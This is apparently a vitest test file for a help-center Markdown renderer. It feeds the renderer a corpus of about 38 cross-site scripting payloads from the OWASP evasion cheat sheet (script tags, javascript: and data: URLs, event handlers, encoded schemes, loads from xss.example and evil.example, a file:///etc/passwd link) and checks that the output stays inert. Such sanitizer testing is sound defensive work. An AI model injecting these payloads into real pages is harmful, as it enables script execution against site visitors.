import { Window } from "happy-dom";
import { describe, expect, test } from "vitest";
import { plainText, renderMarkdown } from "../../server/domain/kb/markdown";
import { articlePage } from "../../server/http/help/pages";

/**
 * Article Markdown as an attacker (or a careless import) writes it, from the OWASP XSS filter
 * evasion cheat sheet and the link tests of Markdown renderers: whatever comes out must be inert:
 * no script-capable element, no event handler, no URL that resolves to anything but http(s) or mailto.
 */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<BODY ONLOAD=alert('XSS')>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=\"javascript:alert('XSS1')\" onmouseover=\"alert('XSS2')\">XSS</a>",
  "> hello<a name=\"n\"\n> href=\"javascript:alert('xss')\">*you*</a>",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](javascript&#58;alert(1))",
  "[click](  javascript:alert(1))",
  "[click](java\u0000script:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![pic](javascript:alert(1))",
  "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "[a](\" onmouseover=\"alert(1))",
  "![x](x\" onerror=\"alert(1))",
  "[a](https://ok.example \"title\\\" onclick=\\\"alert(1)\")",
  "[click](file:///etc/passwd)",
  "[click](//evil.example/xss)",
  "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
  "```html\n<script>alert(1)</script>\n```",
  "<details open ontoggle=alert(1)>",
  "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
];

const FORBIDDEN_TAGS = ["script", "iframe", "object", "embed", "style", "form", "meta", "base", "svg", "math", "link", "details", "body"];
const ALLOWED = ["h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "s", "del", "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr", "th", "td"];
/** As a browser resolves it (WHATWG URL parsing drops tabs and newlines as browsers do): a relative link is fine. */
const safeUrl = (value: string) => ["http:", "https:", "mailto:"].includes(new URL(value, "https://help.example/help/en/").protocol);

function inert(html: string): string[] {
  const doc = new Window().document;
  doc.body.innerHTML = html;
  const problems: string[] = [];
  for (const el of Array.from(doc.body.querySelectorAll("*"))) {
    if (FORBIDDEN_TAGS.includes(el.tagName.toLowerCase())) problems.push(`element ${el.tagName}`);
    for (const attr of Array.from(el.attributes)) {
      if (attr.name.toLowerCase().startsWith("on")) problems.push(`handler ${attr.name}`);
      if (["href", "src", "action", "data", "xlink:href", "formaction"].includes(attr.name.toLowerCase()) && !safeUrl(attr.value ?? "")) problems.push(`url ${attr.name}=${attr.value}`);
    }
  }
  return problems;
}

describe("hostile Markdown renders inert", () => {
  test("the corpus is large enough to mean something", () => expect(HOSTILE.length).toBeGreaterThanOrEqual(25));
  test.each(HOSTILE)("%s", (source) => {
    const html = renderMarkdown(source);
    expect(inert(html), html).toEqual([]);
    // Escaped text may still read "javascript:"; what matters is that no tag but the allowed ones exists.
    const tags = [...html.matchAll(/<\/?([a-zA-Z][\w:-]*)/g)].map((m) => m[1]!.toLowerCase());
    expect(tags.filter((t) => !ALLOWED.includes(t))).toEqual([]);
  });
  test("ordinary Markdown still renders: links, images, code, tables", () => {
    const html = renderMarkdown("# Title\n\n[docs](https://docs.example/ssl) and ![shot](https://img.example/a.png)\n\n```sh\nphp -v\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n");
    expect(html).toContain('<a href="https://docs.example/ssl" rel="nofollow noopener">docs</a>');
    expect(html).toContain('<img src="https://img.example/a.png" alt="shot" />');
    expect(html).toContain('<code class="language-sh">php -v');
    expect(html).toContain('<td style="text-align:right">2</td>');
  });
  test("the plain text holds what a reader sees and no markup", () => {
    expect(plainText("**Open** the [SSL page](https://x.example) & <b>wait</b>")).toBe("Open the SSL page & <b>wait</b>");
  });
});

describe("a help center article page built from the hostile corpus", () => {
  const body = HOSTILE.join("\n\n");
  const title = `<script>alert("title")</script><img src=x onerror=alert(1)>`;
  const page = async () => String(await articlePage({ publicUrl: "https://help.example", styleHref: "/help/help.css" }, {
    article: { locale: "en", slug: "hostile", title, html: renderMarkdown(body), updatedAt: "2026-12-03T10:00:00.000Z", url: "/help/en/hostile" },
    category: { slug: "x", title: `<b onclick=alert(1)>cat</b>`, description: "", position: 0 },
    translations: [], voted: null, related: [], description: `"><script>alert(1)</script>`,
  }));

  test("has no script, no handler and no unsafe URL anywhere in the document", async () => {
    const doc = new new Window().DOMParser().parseFromString(await page(), "text/html");
    const problems: string[] = [];
    for (const el of Array.from(doc.querySelectorAll("*"))) {
      if (["script", "iframe", "object", "embed", "style", "base", "svg", "math", "details"].includes(el.tagName.toLowerCase())) problems.push(`element ${el.tagName}`);
      for (const attr of Array.from(el.attributes)) {
        if (attr.name.toLowerCase().startsWith("on")) problems.push(`handler ${attr.name} on ${el.tagName}`);
        // The empty icon (data:,) keeps browsers from asking for /favicon.ico; it is the page's own, not the article's.
        const ownIcon = el.tagName === "LINK" && el.getAttribute("rel") === "icon" && attr.value === "data:,";
        if (["href", "src", "action", "data", "xlink:href", "formaction"].includes(attr.name.toLowerCase()) && !safeUrl(attr.value ?? "") && !ownIcon) problems.push(`url ${attr.name}=${attr.value}`);
      }
    }
    expect(problems).toEqual([]);
    // The only form is the page's own vote; the title and category stayed text.
    expect(Array.from(doc.querySelectorAll("form")).map((f) => f.getAttribute("action"))).toEqual(["/help/en/hostile/vote"]);
    expect(doc.querySelector("h1")!.textContent).toBe(title);
    expect(inert(doc.querySelector(".article-body")!.innerHTML)).toEqual([]);
  });
});
